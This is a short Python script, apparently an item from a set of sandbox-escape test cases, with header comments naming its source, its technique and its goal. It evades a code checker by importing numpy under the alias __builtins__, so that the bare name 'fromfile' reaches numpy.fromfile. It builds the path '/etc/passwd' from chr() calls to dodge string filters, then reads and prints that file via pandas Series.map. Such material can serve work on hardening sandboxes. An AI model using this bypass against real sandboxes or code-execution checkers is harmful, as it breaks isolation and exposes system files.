# source: CPython 3.11 Objects/frameobject.c _PyEval_BuiltinsFromGlobals (a function's builtins are globals['__builtins__'], a module allowed) ; classic pyjail '__builtins__' replacement write-ups; numpy.fromfile (refused as attribute, not as bare name)
# family: builtins swap: 'import M as __builtins__' (import alias is a dunder binding the check does not gate); defs made after it look up bare names in M's globals, which the check reads as unknown plain names
# goal: reads /etc/passwd with np.fromfile reached as a bare name; called through Series.map so C-level imports see a library frame's builtins
import pandas as pd
import numpy as __builtins__

def reader():
    return fromfile

path = chr(47) + "etc" + chr(47) + "passwd"
rd = reader()
raw = pd.Series([path]).map(rd)[0]
print(raw.tobytes()[:200].decode())
